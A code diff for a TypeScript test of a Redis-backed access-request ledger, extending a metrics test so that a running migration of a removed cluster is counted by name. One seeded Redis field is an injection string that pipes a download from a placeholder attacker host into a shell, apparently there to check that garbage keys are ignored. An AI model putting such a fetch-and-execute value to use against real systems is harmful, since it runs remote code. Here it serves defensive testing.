@@ -6,8 +6,9 @@ import { connectRedis, connectRedisBlocking, type RedisConnection } from "../../
 import { redisLedger } from "../../src/ledger/ledger.ts";
 import { openQueues, type Queues, queuePrefix, wake } from "../../src/ledger/queues.ts";
 import { aCluster } from "../builders/a-cluster.ts";
+import { aPlannedMigration } from "../builders/a-migration.ts";
 import { aLeasedRequest, aRequest } from "../builders/a-request.ts";
-import { aChange } from "../builders/an-event.ts";
+import { aChange, anEvent } from "../builders/an-event.ts";
 import { silentContext } from "../fault/silent-context.ts";
 import { asAdministrator } from "../ledger/a-ledger-on.ts";
 import { aRedis, type TestRedis } from "../redis.ts";
@@ -113,16 +114,19 @@ test("a job that someone garbled in Redis hides the age of no other", async () =
   expect(Math.round(((await told())?.ageSeconds ?? 0) / 60)).toBe(5);
 });
 
-test("open requests of a cluster that left the configuration are counted, by its name", async () => {
+test("open requests and the begun migration of a cluster that left the configuration are counted, by its name", async () => {
   const ledger = redisLedger(connection.redis);
   await ledger.commit(aChange(aRequest()));
   await ledger.commit(aChange(aRequest({ id: "r-2", cluster: "gone" })));
   await ledger.commit(aChange(aRequest({ id: "r-3", cluster: "closed", state: "denied" })));
 
   // An operator would copy it from doctor.
+  const planned = aPlannedMigration({ cluster: "planned", id: "migration-planned-1" });
+  const migrations = [aPlannedMigration({ cluster: "gone", id: "migration-gone-1", state: "running" }), planned];
+  for (const after of migrations) await ledger.commit({ after, event: anEvent({ request: after.id }) });
   await connection.redis.hset("{eks-access}:open-by-cluster", "x; curl evil.example | sh", 1, "--help", 1);
 
-  expect(await metrics().openUnconfigured()).toEqual(new Map([["gone", 1]]));
+  expect(await metrics().openUnconfigured()).toEqual(new Map([["gone", 2]]));
   expect((await metrics().tally()).requests.get("pending")).toBe(2);
 });
 
